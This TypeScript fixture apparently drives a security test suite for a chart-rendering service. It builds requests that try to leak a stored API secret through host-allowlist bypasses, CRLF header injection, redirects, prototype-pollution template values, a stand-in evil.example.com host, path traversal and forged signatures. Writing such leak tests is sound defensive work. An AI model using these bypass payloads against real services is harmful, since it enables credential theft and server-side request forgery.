// Attempts to read an account's secrets from the service: a table of requests, generated from lists of tricks. test/viewer/secret-leaks.test.ts
// runs them.

import { createHmac } from "node:crypto";

/** What the attempts need. */
export interface Target {
  /** Origin of the service. */
  readonly service: string;
  /** Host of the server that may receive the secrets, and of another one that may not. */
  readonly host: string;
  readonly other: string;
  /** Keys: the owner's, the owner's read-only key, and another account's with its id. */
  readonly owner: string;
  readonly reader: string;
  readonly stranger: string;
  readonly strangerId: string;
  readonly ownerId: string;
  readonly admin: string;
  /** The value of `{{secret.metabase}}`. */
  readonly value: string;
}

/** An attempt: its name, and requests, each of which can use the text of the response before. */
export interface Attempt {
  readonly name: string;
  readonly requests: readonly ((target: Target, before: string) => Call)[];
}

/** A request. */
export interface Call {
  readonly path: string;
  readonly key?: string;
  readonly method?: string;
  readonly body?: object | string;
  readonly headers?: Readonly<Record<string, string>>;
}

const SECRET = "{{secret.metabase}}";
const HEADERS = { "X-API-Key": SECRET };

/** Returns a chart with external data. */
const chartOf = (url: string, more: object = {}, headers: object = HEADERS, source = "json") => ({
  type: "bar",
  data: { datasets: [{ label: "a" }] },
  options: {
    title: { display: true, text: "Leak" },
    plugins: { [source]: { url, labelColumn: 0, dataColumns: [1], headers, ...more } },
  },
});

const draw = (chart: unknown, more: Readonly<Record<string, string>> = {}) =>
  `/chart?${new URLSearchParams({ c: typeof chart === "string" ? chart : JSON.stringify(chart), f: "svg", w: "300", h: "200", ...more })}`;

const one = (name: string, request: Attempt["requests"][number]): Attempt => ({ name, requests: [request] });
const owned = (name: string, chart: (target: Target) => unknown, more?: Readonly<Record<string, string>>) =>
  one(name, (target) => ({ path: draw(chart(target), more), key: target.owner }));

/** URLs of hosts that the secret doesn't list, or that only look like one. */
const WRONG_URLS: Readonly<Record<string, (target: Target) => string>> = {
  "another port": ({ other }) => `http://${other}/rows`,
  "a name of the same machine": ({ host }) => `http://localhost:${portOf(host)}/rows`,
  "a subdomain of localhost": ({ host }) => `http://a.localhost:${portOf(host)}/rows`,
  "IPv6 loopback": ({ other }) => `http://[::1]:${portOf(other)}/rows`,
  "an IPv4 address in IPv6": ({ host }) => `http://[::ffff:127.0.0.1]:${portOf(host)}/rows`,
  "another loopback address": ({ host }) => `http://127.0.0.2:${portOf(host)}/rows`,
  "the host as user name": ({ host, other }) => `http://${host.replace(":", "%3A")}@${other}/rows`,
  "the host as user name and password": ({ host, other }) => `http://${host}@${other}/rows`,
  "a user name before the host": ({ host }) => `http://user@${host}/rows`,
  "a password before the host": ({ host }) => `http://user:password@${host}/rows`,
  "the host before a dot": ({ host }) => `http://${host.split(":")[0]}.evil.example.com/rows`,
  "the host as a prefix": ({ host }) => `http://${host.split(":")[0]}.nip.io/rows`,
  "the host in a path": ({ host, other }) => `http://${other}/${host}/rows`,
  "the host in a query": ({ host, other }) => `http://${other}/rows?http://${host}/`,
  "the host in a fragment": ({ host, other }) => `http://${other}/rows#@${host}/`,
  "a backslash": ({ host, other }) => `http://${other}\\@${host}/rows`,
  "a tab in the scheme": ({ other }) => `ht\ttp://${other}/rows`,
  "a line break in the host": ({ host, other }) => `http://${other}/\r\nHost: ${host}\r\n/rows`,
  "a longer port": ({ host }) => `http://${host}0/rows`,
  "no port": ({ host }) => `http://${host.split(":")[0]}/rows`,
  "https at the port": ({ host }) => `https://${host}/rows`,
  "another scheme": ({ host }) => `ftp://${host}/rows`,
  "a data URL": () => "data:application/json,[[1,2]]",
  "no URL": () => SECRET,
  "the secret as host": () => `http://${SECRET}/rows`,
};

/** An image that loads data: the path and the body of its request. */
interface DataImage {
  readonly path: string;
  readonly body: Readonly<Record<string, unknown>>;
}

/** The other kinds of images that load data, by the place of the source. The rows at the URL have a label and a value. */
export const DATA_IMAGES: Readonly<Record<string, (url: string, headers?: object) => DataImage>> = {
  "data.url of Vega-Lite": (url, headers = HEADERS) => vega({ url, headers, format: { type: "json" } }),
  "data of Vega-Lite": (url, headers = HEADERS) => vega({ json: { url, headers } }),
  "a dataset of ECharts": (url, headers = HEADERS) => ({
    path: "/echarts",
    body: {
      option: {
        xAxis: { type: "category" },
        yAxis: {},
        dataset: { json: { url, headers } },
        series: [{ type: "bar", encode: { x: "label", y: "value" } }],
      },
    },
  }),
  "a badge": (url, headers = HEADERS) => ({ path: "/badge", body: { url, headers, query: "[0].label" } }),
  "a list of a card": (url, headers = HEADERS) => ({
    path: "/card",
    body: { template: "weekly-report", data: { title: "A", points: { json: { url, headers } } } },
  }),
};

const vega = (data: object): DataImage => ({
  path: "/vega",
  body: {
    spec: { data, mark: "bar", encoding: { x: { field: "label" }, y: { field: "value", type: "quantitative" } } },
  },
});

/** Returns the path of a GET for an image that loads data. */
export function toQuery({ path, body }: DataImage): string {
  const text = (value: unknown) => (typeof value === "string" ? value : JSON.stringify(value));
  const entries = Object.entries({ ...body, format: "svg" }).map(([name, value]) => [name, text(value)]);
  return `${path}?${new URLSearchParams(Object.fromEntries(entries) as Record<string, string>)}`;
}

function portOf(host: string): string {
  return host.split(":")[1] ?? "";
}

const STATUSES = [301, 302, 303, 307, 308];
const REDIRECTS: Readonly<Record<string, (target: Target) => string>> = {
  "another port": ({ other }) => `http://${other}/rows`,
  "a name of the same machine": ({ host }) => `http://localhost:${portOf(host)}/rows`,
  "a relative scheme": ({ other }) => `//${other}/rows`,
  "a user name": ({ host, other }) => `http://${host}@${other}/rows`,
};

/** Responses in which the server returns the secret that it has received. */
const ECHOES = [
  "json",
  "label",
  "csv",
  "heading",
  "number",
  "base64",
  "percent",
  "escaped",
  "charset",
  "type",
  "error",
  "reason",
  "location",
] as const;

/** Values of headers that are not exactly one secret. */
const WRONG_VALUES = [
  "{{secret.{{secret.a}}}}",
  "{{secret.{{secret.metabase}}}}",
  `${SECRET}${SECRET}`,
  `x ${SECRET} y`,
  `${SECRET}\r\nX-Other: 1`,
  `Bearer\r\n ${SECRET}`,
  `Bearer  ${SECRET}`,
  `Bearer ${SECRET}`,
  "{{ secret.metabase }}",
  "{{secret.METABASE}}",
  "{{secret.__proto__}}",
  "{{secret.constructor}}",
  "{{secret.toString}}",
  "{{secret.metabase.length}}",
  "{{secret.*}}",
  "{{secret.metabase}",
];
const WRONG_NAMES = [
  "Authorization",
  "Cookie",
  "Host",
  "X-API-Key\r\nX-Other",
  "__proto__",
  "constructor",
  "X-Api-Key2",
  "",
];

/** Charts and other images in which the secret isn't a header, and must stay as it is. */
const PLACES: Readonly<Record<string, (target: Target) => Call>> = {
  "a title": ({ owner }) => place(owner, { title: { display: true, text: SECRET } }),
  "a subtitle": ({ owner }) => place(owner, { plugins: { subtitle: { display: true, text: SECRET } } }, "4"),
  "a source in a query": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/rows?key=${SECRET}`)),
    key: owner,
  }),
  "a path": ({ owner, host }) => ({ path: draw(chartOf(`http://${host}/rows/${SECRET}`)), key: owner }),
  "a path of JSON": ({ owner, host }) => ({ path: draw(chartOf(`http://${host}/rows`, { path: SECRET })), key: owner }),
  "an expression": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/rows`, { jmespath: `[['${SECRET}', \`1\`]]` })),
    key: owner,
  }),
  "a column": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/rows`, { labelColumn: SECRET })),
    key: owner,
  }),
  "a delimiter": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/rows`, { delimiter: SECRET }, HEADERS, "csv")),
    key: owner,
  }),
  "a refresh interval": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/rows`, { refresh: SECRET })),
    key: owner,
  }),
  "a token of Airtable": ({ owner }) => ({
    path: draw(chartOf("https://airtable.com/app1234/tbl1234", { apiKey: SECRET }, {}, "airtable")),
    key: owner,
  }),
  "a query of Prometheus": ({ owner, host }) => ({
    path: draw(chartOf(`http://${host}/echo/json`, { query: SECRET }, {}, "prometheus")),
    key: owner,
  }),
  "a script": ({ owner, host }) => ({
    path: draw(
      `(() => { const s = ${JSON.stringify(SECRET)}; return {type:'bar',data:{labels:[s,String(s.length)],datasets:[{data:[1,2]}]},options:{plugins:{json:{url:'http://${host}/rows',headers:{'X-API-Key':s},labelColumn:0,filter:{label:(l)=>{throw Error(l+s)}}}}}} })()`,
    ),
    key: owner,
  }),
  "a label": ({ owner }) => ({
    path: draw({ type: "bar", data: { labels: [SECRET], datasets: [{ label: SECRET, data: [1] }] } }),
    key: owner,
  }),
  "alt text": ({ owner, host }) => ({ path: draw(chartOf(`http://${host}/rows`), { f: "alt" }), key: owner }),
  "a QR code": ({ owner }) => ({ path: `/qr?text=${encodeURIComponent(SECRET)}&format=svg`, key: owner }),
  "a word cloud": ({ owner }) => ({ path: `/wordcloud?text=${encodeURIComponent(SECRET)}`, key: owner }),
  "a table": ({ owner }) => ({
    path: `/v1/table?data=${encodeURIComponent(JSON.stringify({ title: SECRET, columns: [], dataSource: [] }))}`,
    key: owner,
  }),
  "a badge": ({ owner, host }) => ({ path: `/badge?url=http://${host}/rows&label=${SECRET}&query=$[0]`, key: owner }),
  "a badge of an address": ({ owner, host }) => ({
    path: `/badge?url=${encodeURIComponent(`http://${host}/echo/json?${SECRET}`)}&query=$[0]`,
    key: owner,
  }),
  "a description": ({ owner }) => ({ path: `/natural/bar chart of ${SECRET} 5`, key: owner }),
  "a background": ({ owner }) => ({ path: draw(chartOf("data:,"), { bkg: SECRET }), key: owner }),
  "an image": ({ owner, host }) =>
    place(owner, { plugins: { backgroundImageUrl: `http://${host}/echo/json?${SECRET}` } }),
  "a graph": ({ owner }) => ({ path: `/graphviz?graph=${encodeURIComponent(`digraph{"${SECRET}"}`)}`, key: owner }),
  "a language": ({ owner }) => ({ path: draw(chartOf("data:,"), { lang: SECRET }), key: owner }),
};

function place(key: string, options: object, v = "2"): Call {
  return {
    path: draw({ type: "bar", data: { labels: ["a"], datasets: [{ data: [1] }] }, options }, { v }),
    key,
  };
}

/** Ways to request a chart, each for callers who are not the owner. */
const WAYS: Readonly<Record<string, (target: Target, key: string | undefined) => Attempt["requests"]>> = {
  "an image": ({ host }, key) => [() => call(draw(chartOf(`http://${host}/rows`)), key)],
  "a posted chart": ({ host }, key) => [
    () => call("/chart", key, { chart: chartOf(`http://${host}/rows`), format: "svg" }),
  ],
  "a saved chart": ({ host }, key) => [
    () => call("/chart/create", key, { chart: chartOf(`http://${host}/rows`), format: "svg" }),
    (_, before) => call(`/chart/render/${idIn(before)}`, key),
  ],
  "a configuration": ({ host }, key) => [
    () => call("/chart/create", key, { chart: chartOf(`http://${host}/echo/json`), format: "svg" }),
    (_, before) => call(`/chart/config/${idIn(before)}`, key),
  ],
  "a card": ({ host }, key) => [
    () =>
      call("/card", key, {
        card: { type: "chart", chart: chartOf(`http://${host}/rows`), version: "2" },
        format: "svg",
      }),
  ],
  "a validation": ({ host }, key) => [
    () => call("/api/validate-chart", key, { chart: chartOf(`http://${host}/rows`) }),
  ],
  "a live chart": ({ host }, key) => [
    () => call(draw(chartOf(`http://${host}/rows`)).replace("/chart?", "/embed?"), key),
  ],
  "a tool": ({ host }, key) => [
    () =>
      call("/mcp", key, {
        jsonrpc: "2.0",
        id: 1,
        method: "tools/call",
        params: { name: "create_chart", arguments: { chart: chartOf(`http://${host}/rows`) } },
      }),
  ],
};

const CALLERS: Readonly<Record<string, (target: Target) => string | undefined>> = {
  anybody: () => undefined,
  "another account": ({ stranger }) => stranger,
};

function call(path: string, key: string | undefined, body?: object): Call {
  return { path, ...(key !== undefined && { key }), ...(body !== undefined && { body }) };
}

function idIn(text: string): string {
  return /"id":"([^"]+)"/.exec(text)?.[1] ?? "none";
}

function save({ path, body }: DataImage, key: string | undefined): Call {
  return call(`${path}/create`, key, { ...body, format: "svg" });
}

const drawn = (name: string, image: (target: Target) => DataImage) =>
  one(name, (target) => call(toQuery(image(target)), target.owner));

/** Requests of the owner after which the owner's chart is public, and its pages. */
const SAVED: Readonly<Record<string, (id: string) => string>> = {
  "its image": (id) => `/chart/render/${id}`,
  "its configuration": (id) => `/chart/config/${id}`,
  "its live chart": (id) => `/chart-maker/view/${id}`,
  "its edit page": (id) => `/chart-maker/edit/${id}`,
  "its oEmbed response": (id) => `/oembed?url=http://localhost/chart/render/${id}&format=json`,
  "its versions": (id) => `/chart/config/${id}/versions`,
};

/** Requests to the API of secrets. */
const API: Readonly<Record<string, (target: Target) => Call>> = {
  "list as reader": ({ reader }) => call("/api/account/secrets", reader),
  "list as stranger": ({ stranger }) => call("/api/account/secrets", stranger),
  "list as anybody": () => call("/api/account/secrets", undefined),
  "list as owner": ({ owner }) => call("/api/account/secrets", owner),
  "list with a key in the URL": ({ owner }) => call(`/api/account/secrets?key=${owner}`, undefined),
  "list by a forged method": ({ reader }) => ({
    path: "/api/account/secrets",
    key: reader,
    headers: { "X-HTTP-Method-Override": "PUT" },
  }),
  "read as owner": ({ owner }) => call("/api/account/secrets/metabase", owner),
  "read as reader": ({ reader }) => call("/api/account/secrets/metabase", reader),
  "read as stranger": ({ stranger }) => call("/api/account/secrets/metabase", stranger),
  "read a value": ({ owner }) => call("/api/account/secrets/metabase/value", owner),
  "read by another path": ({ stranger, ownerId }) =>
    call(`/api/account/../accounts/${ownerId}/secrets/metabase`, stranger),
  "read __proto__": ({ owner }) => call("/api/account/secrets/__proto__", owner),
  "add a host without the value": ({ owner, other }) => put(owner, { hosts: [other], header: "X-API-Key" }),
  "add a host with an empty value": ({ owner, other }) =>
    put(owner, { hosts: [other], header: "X-API-Key", secret: "" }),
  "add a host with a reference": ({ owner, other }) =>
    put(owner, { hosts: [other], header: "X-API-Key", secret: SECRET }, "copy"),
  "use the copy": ({ owner, other }) =>
    call(draw(chartOf(`http://${other}/echo/json`, {}, { "X-API-Key": "{{secret.copy}}" })), owner),
  "save a wrong host": ({ owner, value }) => put(owner, { hosts: ["*.example.com"], secret: value }),
  "save a wrong header": ({ owner, value, host }) => put(owner, { hosts: [host], header: "Host", secret: value }),
  "save a line break": ({ owner, value, host }) => put(owner, { hosts: [host], secret: `${value}\r\nX: y` }),
  "save malformed JSON": ({ owner, value }) => put(owner, `{"hosts": ["a.example.com"], "secret": "${value}", }`),
  "save unfinished JSON": ({ owner, value }) => put(owner, `{"secret": "${value}`),
  "save as a form": ({ owner, value }) => ({
    ...put(owner, `secret=${value}&hosts=a.example.com`),
    headers: { "Content-Type": "application/x-www-form-urlencoded" },
  }),
  "save a list": ({ owner, value, host }) => put(owner, { hosts: [host], secret: [value] }),
  "save as reader": ({ reader, other }) => put(reader, { hosts: [other], header: "X-API-Key", secret: "12345678" }),
  "save as stranger": ({ stranger, other }) =>
    put(stranger, { hosts: [other], header: "X-API-Key", secret: "12345678" }),
  "remove as reader": ({ reader }) => ({ ...call("/api/account/secrets/metabase", reader), method: "DELETE" }),
  "the account": ({ owner }) => call("/api/account", owner),
  "the keys": ({ owner }) => call("/api/account/keys", owner),
  "the export": ({ owner }) => call("/api/account/export", owner),
  "the usage": ({ owner }) => call("/api/account/usage", owner),
  "the operator's account": ({ ownerId, admin }) => call(`/accounts/${ownerId}`, admin),
  "the operator's list": ({ admin }) => call("/accounts", admin),
  "the operator's change": ({ ownerId, admin }) => ({
    ...call(`/accounts/${ownerId}`, admin, { name: "Owner", secrets: [] }),
    method: "PATCH",
  }),
  "the documentation": () => call("/openapi.json", undefined),
};

function put(key: string, body: object | string, name = "metabase"): Call {
  return { path: `/api/account/secrets/${name}`, key, method: "PUT", body };
}

/** Returns the URL of a chart that an account has signed. */
function sign(path: string, id: string, key: string): string {
  const [route = "", query = ""] = path.split("?");
  const params = new URLSearchParams(query);
  const names = { c: "chart", f: "format", w: "width", h: "height" } as Readonly<Record<string, string>>;
  const parts = [...params].map(([name, value]) => `${names[name] ?? name}=${value}`).sort();
  const sig = createHmac("sha256", `limn:${key}`)
    .update([route, ...parts].join("\0"))
    .digest("hex");
  return `${path}&${new URLSearchParams({ sig, accountId: id })}`;
}

const entries = <Value>(table: Readonly<Record<string, Value>>) => Object.entries(table);

export function listAttempts(target: Target): Attempt[] {
  return [
    ...entries(WRONG_URLS).flatMap(([name, url]) => [
      owned(`data at ${name}`, (at) => chartOf(url(at))),
      one(`validation with data at ${name}`, (at) =>
        call("/api/validate-chart", at.owner, { chart: chartOf(url(at)) }),
      ),
    ]),
    ...entries(REDIRECTS).flatMap(([name, to]) =>
      STATUSES.map((status) =>
        owned(`redirect ${status} to ${name}`, (at) =>
          chartOf(`http://${at.host}/redirect/${status}?to=${encodeURIComponent(to(at))}`),
        ),
      ),
    ),
    ...ECHOES.flatMap((echo) => [
      owned(`echo as ${echo}`, ({ host }) => chartOf(`http://${host}/echo/${echo}`)),
      owned(`echo as ${echo} in CSV`, ({ host }) => chartOf(`http://${host}/echo/${echo}`, {}, HEADERS, "csv")),
    ]),
    ...WRONG_VALUES.map((value) =>
      owned(`header ${JSON.stringify(value)}`, ({ host }) =>
        chartOf(`http://${host}/rows`, {}, { "X-API-Key": value }),
      ),
    ),
    ...WRONG_NAMES.map((header) =>
      owned(`header named ${JSON.stringify(header)}`, ({ host }) =>
        JSON.stringify(chartOf(`http://${host}/rows`, {}, {})).replace(
          '"headers":{}',
          `"headers":{${JSON.stringify(header)}:"${SECRET}"}`,
        ),
      ),
    ),
    ...entries(PLACES).map(([name, request]) => one(`secret in ${name}`, request)),
    ...entries(CALLERS).flatMap(([caller, key]) =>
      entries(WAYS).map(([way, requests]) => ({
        name: `${way} by ${caller}`,
        requests: requests(target, key(target)),
      })),
    ),
    ...entries(SAVED).map(
      ([name, path]): Attempt => ({
        name: `the owner's saved chart: ${name}`,
        requests: [
          ({ host, owner }) => call("/chart/create", owner, { chart: chartOf(`http://${host}/rows`), format: "svg" }),
          (_, before) => call(path(idIn(before)), undefined),
        ],
      }),
    ),
    ...entries(DATA_IMAGES).flatMap(([name, image]) => [
      ...entries(WRONG_URLS).map(([at, url]) => drawn(`${name} at ${at}`, (target) => image(url(target)))),
      ...ECHOES.map((echo) =>
        drawn(`${name} with an echo as ${echo}`, ({ host }) => image(`http://${host}/echo/${echo}`)),
      ),
      ...entries(REDIRECTS).map(([to, url]) =>
        drawn(`${name} redirected to ${to}`, (target) =>
          image(`http://${target.host}/redirect/302?to=${encodeURIComponent(url(target))}`),
        ),
      ),
      drawn(`${name} with the secret in its URL`, ({ host }) => image(`http://${host}/echo/label?${SECRET}`, {})),
      ...entries(CALLERS).flatMap(([caller, key]) => [
        one(`${name} by ${caller}`, (target) => call(toQuery(image(`http://${target.host}/rows`)), key(target))),
        one(`${name} saved by ${caller}`, (target) => save(image(`http://${target.host}/rows`), key(target))),
      ]),
      {
        name: `${name} saved by the owner: its configuration`,
        requests: [
          ({ host, owner }: Target) => save(image(`http://${host}/rows`), owner),
          (_: Target, before: string) => call(`${image("").path}/config/${idIn(before)}`, undefined),
        ],
      },
    ]),
    one("a URL that another account has signed", ({ host, stranger, strangerId }) =>
      call(sign(draw(chartOf(`http://${host}/rows`)), strangerId, stranger), undefined),
    ),
    one("a URL with the owner's id and another signature", ({ host, stranger, ownerId }) =>
      call(sign(draw(chartOf(`http://${host}/rows`)), ownerId, stranger), undefined),
    ),
    ...entries(API).map(([name, request]) => one(`API: ${name}`, request)),
  ];
}
